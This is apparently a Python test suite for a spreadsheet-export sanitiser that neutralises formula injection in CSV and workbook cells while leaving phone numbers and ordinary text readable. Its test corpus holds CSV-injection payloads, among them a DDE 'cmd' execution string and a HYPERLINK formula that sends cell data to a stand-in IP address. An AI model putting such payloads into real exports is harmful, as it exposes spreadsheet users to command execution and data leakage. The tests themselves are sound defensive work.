"""No text of ours turns into a formula in somebody's spreadsheet program; numbers and telephones stay readable."""

import csv
import io
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from alongside.stewardship.exchange.cell_text import csv_line, safe_cell
from tests.stewardship.exchange.workbooks import workbook

TRIGGERS = ["=", "+", "-", "@", "|", "%", "＝", "＋", "－", "＠", "\t=", "\r=", "\n=", "\t", "\r"]
HIDDEN = ["", " ", "\u00a0", "\ufeff", "\x00", "\u200b", "\u200e", "\u202e", "\u2060", "\u00ad", "\x0b", " \ufeff\x00"]
PAYLOADS = ["cmd|' /C calc'!A0", 'HYPERLINK("http://192.0.2.1/"&A1,"see")', "1+1", "SUM(1,2)*cmd|'/C'!A0", "", "1-2"]
CORPUS = [hidden + trigger + payload for hidden in HIDDEN for trigger in TRIGGERS for payload in PAYLOADS]

READABLE = [
    "-1", "-12.50", "-1,234.5", "-3%", "+5", "1+1 is two", "07700 900123", "+44 7700 900123", "+447700900123",
    "Grace O'Neill", "Zoë", "12/03/2019", "a = b", "me@example.org", "50%", "", "'quoted'", "’Ere", "a-b", "1|2",
]  # fmt: skip


def is_live(cell: str) -> bool:
    """Whether a spreadsheet program might work this out, judged otherwise than `safe_cell` does."""
    seen = "".join(c for c in cell if unicodedata.category(c) not in ("Cf", "Cc", "Zs"))
    plain = unicodedata.normalize("NFKC", seen)
    if cell[:1] in "\t\r\n" and cell:
        return True
    number = plain.replace(",", "").replace(".", "").lstrip("+-").rstrip("%")
    return plain[:1] in ("=", "+", "-", "@", "|", "%") and not number.isdigit()


def test_the_corpus_is_large_and_dangerous() -> None:
    assert len(set(CORPUS)) >= 300
    assert sum(map(is_live, CORPUS)) > 900


def test_none_of_the_corpus_stays_live() -> None:
    assert [payload for payload in CORPUS if is_live(safe_cell(payload))] == []


def test_none_is_live_when_read_back_from_csv() -> None:
    lines = "".join(csv_line(["x", payload, f'x",{payload},"', f"x\n{payload}"]) for payload in CORPUS)
    read = list(csv.reader(io.StringIO(lines, newline="")))
    assert {len(row) for row in read} == {4}
    assert not any(is_live(cell) for row in read for cell in row)


def test_none_is_live_when_read_back_from_a_workbook() -> None:
    book = load_workbook(io.BytesIO(workbook([[safe_cell(payload)] for payload in CORPUS])))
    assert {cell.data_type for (cell,) in book.active.iter_rows()} <= {"s", "n"}
    assert all(not is_live(str(cell.value or "")) for (cell,) in book.active.iter_rows())


@pytest.mark.parametrize("text", READABLE)
def test_what_people_really_write_stays_as_it_is(text: str) -> None:
    assert safe_cell(text) == text


@pytest.mark.parametrize("text", ["- needs a ring", "=", "+44 (0)1632 960001", "@home", "+1-2", "-5+3", "-x", "%x"])
def test_text_that_starts_like_a_formula_stays_readable_behind_an_apostrophe(text: str) -> None:
    assert safe_cell(text) == f"'{text}"


@given(st.text(max_size=40))
def test_no_text_whatever_is_live_and_none_is_changed_twice(text: str) -> None:
    safe = safe_cell(text)
    assert not is_live(safe)
    assert safe_cell(safe) == safe
